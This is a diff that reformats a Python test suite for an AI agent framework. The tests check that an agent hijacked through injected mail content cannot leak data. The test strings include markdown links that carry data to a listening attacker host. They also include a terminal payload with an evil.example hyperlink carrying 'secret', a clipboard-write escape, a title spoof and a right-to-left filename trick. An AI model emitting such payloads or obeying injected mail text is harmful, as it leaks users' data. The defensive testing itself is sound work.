@@ -43,7 +43,9 @@ def said(world: World, url: str, line: str) -> Run:
     honest: list[Line] = [("mails", {}), "The mail says: ${v1[0].body}" if world.mode == "clean" else "done"]
     model = Hijacked(honest, [words], [words])
     policy = None if world.guarded else Policy(allow=["*"])
-    agent = Agent("clerk", model=model, tools=[world.mails(body=words), world.pay], grants=[], guard=world.mode, policy=policy)
+    agent = Agent(
+        "clerk", model=model, tools=[world.mails(body=words), world.pay], grants=[], guard=world.mode, policy=policy
+    )
     return world.run(agent)
 
 
@@ -69,7 +71,11 @@ def html_in_the_answer(world: World) -> Result:
 @case("a link in the answer is opened with data in it", "links to unknown hosts are defanged", modes=BOTH)
 def link_in_the_answer(world: World) -> Result:
     with listening() as eve:
-        run = said(world, eve.url, f"[log in here]({{url}}/login?d={DATA}) or [here][1] or <{{url}}/a?d={DATA}>\n\n[1]: {{url}}/b?d={DATA}")
+        run = said(
+            world,
+            eve.url,
+            f"[log in here]({{url}}/login?d={DATA}) or [here][1] or <{{url}}/a?d={DATA}>\n\n[1]: {{url}}/b?d={DATA}",
+        )
         browse(answer_text(run) if world.guarded else str(run.output), click=True)
         return Result(any(DATA in a for a in eve.asked), answer_text(run)[:80])
 
@@ -83,7 +89,10 @@ def reference_picture_in_the_answer(world: World) -> Result:
         return Result(any(DATA in a for a in eve.asked), str(shown)[:80])
 
 
-TERMINAL = "See \x1b]8;;http://evil.example/?q=secret\x1b\\here\x1b]8;;\x1b\\ \x1b]52;c;ZXZpbA==\x07 \x1b[2J\x1b]0;sudo\x07 \u202egnp.exe"
+TERMINAL = (
+    "See \x1b]8;;http://evil.example/?q=secret\x1b\\here\x1b]8;;\x1b\\"
+    " \x1b]52;c;ZXZpbA==\x07 \x1b[2J\x1b]0;sudo\x07 \u202egnp.exe"
+)
 
 
 @case("the answer commands the terminal", "control and direction characters are shown as signs", modes=BOTH)
@@ -91,7 +100,7 @@ def escapes_in_the_answer(world: World) -> Result:
     run = said(world, "", TERMINAL.replace("{", "{{").replace("}", "}}"))
     if world.guarded:
         narrator = Narrator(full=True)
-        shown = "\n".join(line.text for event in run.events() for line in narrator.feed(event))  # type: ignore[arg-type]
+        shown = "\n".join(line.text for event in run.events() for line in narrator.feed(event))
         shown += safe(answer_text(run))
     else:
         shown = str(run.output)
